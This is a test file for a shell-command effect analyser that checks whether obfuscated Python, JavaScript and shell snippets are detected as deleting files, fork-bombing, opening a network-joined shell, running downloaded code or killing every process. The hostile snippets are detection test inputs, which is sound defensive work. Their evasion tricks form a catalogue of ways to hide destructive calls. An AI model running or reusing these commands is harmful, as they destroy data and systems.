import { expect, test } from 'vitest'
import { formatEffect } from '../../effect.ts'
import { analyseShell } from '../analyse-shell.ts'
import { fakeWorld } from '../testing/fake-world.ts'

const world = fakeWorld({ files: { '/w/a.py': 'x = 1', '/w/pkg/__init__.py': '' } })

function linesOf(program: string, code: string): readonly string[] {
  return analyseShell(`${program} '${code.replaceAll("'", "'\\''")}'`, { world, cwd: '/w' }).effects.map(formatEffect)
}

test.each([
  [
    'a field set by its constructor',
    'import os\nclass J:\n  def __init__(self):\n    self.c = "rm x"\n  def go(self):\n    os.system(self.c)\nJ().go()',
  ],
  ['a field set from outside', 'import os\nclass C: pass\nc = C()\nc.line = "rm x"\nos.system(c.line)'],
  ['a field of the class', 'import os\nclass C:\n  cmd = "rm x"\nos.system(C.cmd)'],
  [
    'an argument of a constructor',
    'import os\nclass C:\n  def __init__(self, c): self.c = c\n  def go(self): os.system(self.c)\nC("rm x").go()',
  ],
  ['an argument of a method', 'import os\nclass C:\n  def go(self, c): os.system(c)\nC().go("rm x")'],
  ['a namespace', 'import os\nfrom types import SimpleNamespace\nos.system(SimpleNamespace(c="rm x").c)'],
  ['names given to a function', 'import os\ndef f(**k): os.system(k["c"])\nf(c="rm x")'],
  ['a list put together', 'import subprocess; a = ["rm"]; subprocess.run(a + ["x"])'],
  ['a list grown once', 'import subprocess; a = ["rm"]; a += ["x"]; subprocess.run(a)'],
  ['a list spread', 'import subprocess; a = ["rm"]; subprocess.run([*a, "x"])'],
  ['named arguments spread', 'import subprocess; subprocess.run(**{"args": ["rm", "x"]})'],
  ['words of a text', 'import subprocess, shlex; subprocess.run(shlex.split("rm x"))'],
  ['a text in other letters', 'import os; os.system("RM X".lower())'],
  ['a text written backwards', 'import os; os.system("x mr"[::-1])'],
  ['lines of a text', 'import os\nfor c in "ls\\nrm x".splitlines(): os.system(c)'],
  ['each of several lists spread', 'import subprocess\nfor c in [["ls"], ["rm", "x"]]: subprocess.run([*c])'],
  [
    'each of several lists spread behind a word',
    'import subprocess\ndef f(*a): subprocess.run(["env", *a])\n[f(*c) for c in [["ls"], ["rm", "x"]]]',
  ],
  ['a list turned around', 'import os\nl = ["a", "x"]\nl.reverse()\nos.remove(l[0])'],
  ['a list of which some is taken out', 'import os\nl = ["a", "x"]\nl.pop(0)\nos.remove(l[0])'],
  ['a list filled anew', 'import os\nl = ["a"]\nl[:] = ["x"]\nfor p in l: os.remove(p)'],
  ['values of a dictionary', 'import os\nfor p in {"a": "x"}.values(): os.remove(p)'],
  ['a value taken out of a dictionary', 'import os\nos.remove({"a": "x"}.pop("a"))'],
  ['a copy of a dictionary', 'import os\nos.remove({"a": "x"}.copy()["a"])'],
  ['keys of a dictionary', 'import os\nfor p in {"x": 1}.keys(): os.remove(p)'],
  ['a key that is put in', 'import os\nd = {}\nd["x"] = 1\nfor p in d: os.remove(p)'],
  ['a key that is put in unless it is there', 'import os\nd = {}\nd.setdefault("x", 1)\nfor p, n in d.items(): os.remove(p)'],
  ['a key that is worked out', 'import os\nd = {p: 1 for p in ["x"]}\nfor p, n in d.items(): os.remove(p)'],
  ['a value that is worked out', 'import os\nd = {1: p for p in ["x"]}\nfor n, p in d.items(): os.remove(p)'],
  ['a function put into a namespace', 'import os, types\nn = types.SimpleNamespace()\nn.go = os.remove\nn.go("x")'],
  ['a module of a class', 'class T:\n  import os\n  def go(self): self.os.remove("x")\nT().go()'],
  ['a method by a name that is put together', 'import pathlib\ngetattr(pathlib.Path("x"), "un" + "link")()'],
  ['a text by its characters', 'import os; os.system(chr(114) + chr(109) + " x")'],
  ['a text that grows once', 'import os; c = "rm"; c += " x"; os.system(c)'],
  ['a text that grows twice', 'import os; c = "r"; c += "m"; c += " x"; os.system(c)'],
  ['one of several words', 'import os; os.system("ls;rm x".split(";")[1])'],
  ['a file opened by its descriptor', 'import os; os.posix_spawn("/bin/rm", ["rm", "x"], {})'],
] as const)('python follows %s', (_name, code) => {
  expect(linesOf('python3 -c', code)).toContain('delete x')
})

test.each([
  ['a module loaded by name', 'import importlib; importlib.import_module("os").system("rm x")', 'delete x'],
  ['a module by its own dictionary', 'import os; vars(os)["system"]("rm x")', 'delete x'],
  ['a function handed to a thread', 'import threading, os; threading.Thread(target=os.system, args=("rm x",)).start()', 'delete x'],
  ['a function with its argument', 'import os, functools; functools.partial(os.system, "rm x")()', 'delete x'],
  ['text timed as code', 'import timeit; timeit.timeit("import os; os.system(\\"rm x\\")")', 'delete x'],
  ['text for a shell that runs already', 'import subprocess; p = subprocess.Popen(["sh"], stdin=-1); p.communicate(b"rm x")', 'delete x'],
  [
    'keys that nobody knows',
    'import os\nd = {"a": 1}\nd.update(input())\nfor p in d: os.remove(p)',
    'unknown: deletes `(computed)`, a path only known at run time',
  ],
  [
    'a method by a computed name',
    'import pathlib\ngetattr(pathlib.Path("x"), input())()',
    'unknown: python picks a function by a computed name',
  ],
  [
    'a method by a computed name, handed on',
    'import pathlib\nlist(map(getattr(pathlib.Path("x"), input()), [1]))',
    'unknown: python picks a function by a computed name',
  ],
  ['a member of a module by a computed name', 'import os\nprint(getattr(os, input()))', 'unknown: python `getattr` can reach anything'],
  [
    'what a module of the project loads, by a computed name',
    'import pkg\ngetattr(pkg, input()).remove("x")',
    'unknown: python picks a module by a computed name',
  ],
  [
    'what a module of the project loads, further inside',
    'import pkg\ngetattr(pkg, input()).os.remove("x")',
    'unknown: python picks a module by a computed name',
  ],
  [
    'a caller of methods',
    'import operator, pathlib\noperator.methodcaller("unlink")(pathlib.Path("x"))',
    'unknown: python picks a member by a computed name',
  ],
  ['forks without end', 'import os\nwhile True: os.fork()', 'process:fork-bomb os.fork'],
  ['forks over an endless list', 'import os, itertools\nfor _ in itertools.count(): os.fork()', 'process:fork-bomb os.fork'],
  [
    'a program on a socket',
    'import socket, subprocess; s = socket.create_connection(("h", 1)); subprocess.Popen(["sh"], stdin=s)',
    'execute:remote-shell a program joined to the network',
  ],
  [
    'commands from a socket',
    'import socket, os; s = socket.socket(); c, a = s.accept(); os.system(c.recv(9).decode())',
    'execute:download text from the network',
  ],
  [
    'a download that is run',
    'import urllib.request, os; urllib.request.urlretrieve("https://h.example/x", "/tmp/x"); os.system("sh /tmp/x")',
    'execute:download /tmp/x',
  ],
  ['every process', 'import os; os.kill(-1, 9)', 'process:all -1'],
  ['an unsafe loader', 'import yaml; yaml.load(open("c.yml"), Loader=yaml.Loader)', 'unknown: `yaml.load` can run anything'],
] as const)('python sees %s', (_name, code, expected) => {
  expect(linesOf('python3 -c', code)).toContain(expected)
})

test.each([
  ['a field', 'class A { constructor() { this.c = "rm x" } go() { require("child_process").execSync(this.c) } } new A().go()', 'delete x'],
  ['a field of the class', 'class A { static c = "rm x" } require("child_process").execSync(A.c)', 'delete x'],
  ['a list spread', 'const a = ["x"]; require("child_process").spawnSync("rm", [...a])', 'delete x'],
  ['a list grown', 'const a = []; a.push("x"); require("child_process").spawnSync("rm", a)', 'delete x'],
  ['a text that grows once', 'let c = "rm"; c += " x"; require("child_process").execSync(c)', 'delete x'],
  ['a text by its characters', 'require("child_process").execSync(String.fromCharCode(114, 109) + " x")', 'delete x'],
  ['text run in a context', 'require("vm").runInThisContext("require(\\"child_process\\").execSync(\\"rm x\\")")', 'delete x'],
  ['code in an address', 'import("data:text/javascript,import c from \\"child_process\\"; c.execSync(\\"rm x\\")")', 'delete x'],
  ['a download handed to eval', 'fetch("https://h.example/x").then(r => r.text()).then(eval)', 'execute:download text from the network'],
  [
    'a download in pieces',
    'require("https").get("https://h.example/x", r => { let b = ""; r.on("data", d => b += d); r.on("end", () => eval(b)) })',
    'execute:download text from the network',
  ],
  ['text for a shell that runs already', 'const c = require("child_process").spawn("sh"); c.stdin.write("rm x")', 'delete x'],
  ['processes without end', 'while (true) require("child_process").fork("a.js")', 'process:fork-bomb child_process.fork'],
  ['functions of Deno', 'Deno.removeSync("/etc", { recursive: true })', 'delete /etc'],
] as const)('javascript follows %s', (_name, code, expected) => {
  expect(linesOf('node -e', code)).toContain(expected)
})

test.each([
  [
    'a member of what was fetched',
    'import requests\nprint(getattr(requests.get("https://x.test"), "status_code", None))',
    ['connect:get https://x.test'],
  ],
  ['a member by a known name', 'class C:\n  a = 1\nprint(getattr(C(), "a", None))', []],
  ['whether a variable is set', 'import os; print("API_KEY" in os.environ)', []],
  [
    "a server of one's own",
    'import socket; s = socket.socket(); print(s.connect_ex(("localhost", 8000)))',
    ['connect:query localhost:8000'],
  ],
  [
    'files that git lists, picked and handed on',
    'import subprocess as s\nnames = s.check_output(["git", "ls-files"], text=True).split()\ns.run(["wc", "-l", *[n for n in names if n.endswith(".py")]])',
    ['read .', 'read:names (found paths)'],
  ],
  [
    'a file written back',
    's = open("a.py").read()\nwith open("a.py", "w") as f: f.write(s.replace("a", "b"))',
    ['read a.py', 'write:edit a.py'],
  ],
  ['a function that calls itself', 'def walk(o, path=""):\n  for k in o: walk(o[k], f"{path}.{k}")\nwalk({})', []],
  [
    'files that git lists',
    'import subprocess\nfor f in subprocess.check_output(["git", "ls-files"], text=True).split(): print(open(f).read())',
    ['read .', 'read (found paths)'],
  ],
  [
    'files that a search lists',
    'import subprocess\nfor f in subprocess.check_output("find src -name \'*.ts\' 2>/dev/null | sort | head -5", shell=True, text=True).split(): print(open(f).read())',
    ['read:names src', 'read (found paths)'],
  ],
  [
    'files that git lists elsewhere, by their relative names',
    'import subprocess\nfor f in subprocess.check_output(["git", "-C", "src", "ls-files"], text=True).split(): print(open(f).read())',
    ['read src', 'read (found paths)'],
  ],
  ['a loop that ends', 'while True:\n  break', []],
] as const)('python settles %s', (_name, code, expected) => {
  expect(linesOf('python3 -c', code).filter((line) => !line.startsWith('read .git'))).toEqual(expected)
})

test.each([
  'git ls-files; cat list.txt',
  'find src -printf "/%p"',
  'find src -exec cat {} +',
  'find src /etc',
  'find ../other -name "*.ts"',
  'grep -r x src',
  'grep -rl x ~/notes',
  'git ls-files | xargs cat',
  'git ls-files | sort - /etc/passwd',
  'git ls-files `cat list.txt`',
])('what else a command prints is no list of files of the project: %s', (command) => {
  const code = `import subprocess\nfor f in subprocess.check_output('''${command}''', shell=True, text=True).split(): print(open(f).read())`
  expect(linesOf('python3 -c', code)).toContain('unknown: reads `(computed)`, a path only known at run time')
})

test.each([
  ['a command line that destroys, for nothing', "python3 - <<'E'\ns = 'mkfs /dev/sda1'\nE", true],
  ['one that is looked at', "python3 - <<'E'\ns = 'mkfs /dev/sda1'\nprint(len(s))\nE", false],
  ['one that is given to a script nobody can read', "python3 gone.py <<'E'\nmkfs /dev/sda1\nE", true],
  ['other text given to such a script', "python3 gone.py <<'E'\nhello\nE", false],
  ['code where a script should stand', "ruby 'system(1)'", true],
] as const)('%s', (_name, command, doubted) => {
  const { effects } = analyseShell(command, { world, cwd: '/w' })
  expect(effects.some(({ kind }) => kind === 'unknown')).toBe(doubted)
})

test.each([
  ["node - <<'E'\nrm -rf ~\nE", 'delete ~'],
  ["ipython -c '!rm -rf /etc'", 'delete /etc'],
] as const)('a command line for the wrong interpreter counts as one: %s', (command, expected) => {
  expect(analyseShell(command, { world, cwd: '/w' }).effects.map(formatEffect)).toContain(expected)
})
